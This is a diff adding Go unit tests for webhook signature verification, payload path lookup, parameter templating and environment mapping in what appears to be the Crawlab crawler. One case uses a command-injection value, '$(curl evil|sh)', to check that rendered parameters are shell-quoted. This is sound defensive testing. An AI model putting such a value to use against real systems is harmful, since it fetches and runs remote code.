@@ -0,0 +1,91 @@
+package services
+
+import (
+	"crawlab/model"
+	. "github.com/smartystreets/goconvey/convey"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestVerifyWebhookSignature(t *testing.T) {
+	Convey("Test VerifyWebhookSignature", t, func() {
+		w := model.Webhook{Secret: "secret"}
+		body := []byte(`{"id":1}`)
+		now := time.Unix(1600000000, 0)
+		ts := strconv.FormatInt(now.Unix(), 10)
+		signature := ComputeWebhookSignature(w.Secret, ts, body)
+
+		Convey("valid signature is accepted", func() {
+			So(VerifyWebhookSignature(w, ts, signature, body, now.Add(time.Minute)), ShouldBeNil)
+		})
+		Convey("modified body is rejected", func() {
+			So(VerifyWebhookSignature(w, ts, signature, []byte(`{"id":2}`), now), ShouldNotBeNil)
+		})
+		Convey("other secret is rejected", func() {
+			So(VerifyWebhookSignature(model.Webhook{Secret: "other"}, ts, signature, body, now), ShouldNotBeNil)
+		})
+		Convey("expired timestamp is rejected", func() {
+			So(VerifyWebhookSignature(w, ts, signature, body, now.Add(10*time.Minute)), ShouldNotBeNil)
+		})
+		Convey("missing signature is rejected", func() {
+			So(VerifyWebhookSignature(w, "", "", body, now), ShouldNotBeNil)
+		})
+	})
+}
+
+func TestWebhookPayloadMapping(t *testing.T) {
+	Convey("Test webhook payload mapping", t, func() {
+		body := []byte(`{"repo":{"name":"crawlab","stars":100},"tags":["a","b"],"ok":true,"meta":{"x":1}}`)
+		payload, err := ParseWebhookPayload(body)
+		So(err, ShouldBeNil)
+
+		Convey("gets values by path", func() {
+			value, ok := GetWebhookPayloadValue(payload, "repo.name")
+			So(ok, ShouldBeTrue)
+			So(value, ShouldEqual, "crawlab")
+			value, _ = GetWebhookPayloadValue(payload, "repo.stars")
+			So(value, ShouldEqual, "100")
+			value, _ = GetWebhookPayloadValue(payload, "tags.1")
+			So(value, ShouldEqual, "b")
+			value, _ = GetWebhookPayloadValue(payload, "ok")
+			So(value, ShouldEqual, "true")
+			value, _ = GetWebhookPayloadValue(payload, "meta")
+			So(value, ShouldEqual, `{"x":1}`)
+			_, ok = GetWebhookPayloadValue(payload, "repo.owner")
+			So(ok, ShouldBeFalse)
+		})
+		Convey("renders param template", func() {
+			param := RenderWebhookParam("-a repo={{repo.name}} -a tag={{ tags.0 }} -a owner={{repo.owner}}", payload)
+			So(param, ShouldEqual, "-a repo=crawlab -a tag=a -a owner=''")
+		})
+		Convey("quotes values in param template", func() {
+			payload, _ := ParseWebhookPayload([]byte(`{"name":"$(curl evil|sh)","title":"it's a; b"}`))
+			param := RenderWebhookParam("-a name={{name}} -a title={{title}}", payload)
+			So(param, ShouldEqual, `-a name='$(curl evil|sh)' -a title='it'"'"'s a; b'`)
+		})
+		Convey("maps envs", func() {
+			w := model.Webhook{Envs: []model.WebhookEnv{{Name: "REPO", Path: "repo.name"}}}
+			envs := GetWebhookEnvs(w, payload, body)
+			So(envs[1].Value, ShouldEqual, string(body))
+			So(envs[2].Value, ShouldEqual, strconv.Itoa(len(body)))
+			So(envs[3].Name, ShouldEqual, "REPO")
+			So(envs[3].Value, ShouldEqual, "crawlab")
+		})
+		Convey("omits payload larger than env limit", func() {
+			large := []byte(`{"data":"` + strings.Repeat("x", MaxWebhookEnvSize+1) + `"}`)
+			largePayload, err := ParseWebhookPayload(large)
+			So(err, ShouldBeNil)
+			w := model.Webhook{Envs: []model.WebhookEnv{{Name: "DATA", Path: "data"}}}
+			envs := GetWebhookEnvs(w, largePayload, large)
+			So(envs[1].Value, ShouldEqual, "")
+			So(envs[2].Value, ShouldEqual, strconv.Itoa(len(large)))
+			So(envs[3].Value, ShouldEqual, "")
+		})
+		Convey("invalid payload is rejected", func() {
+			_, err := ParseWebhookPayload([]byte("not json"))
+			So(err, ShouldNotBeNil)
+		})
+	})
+}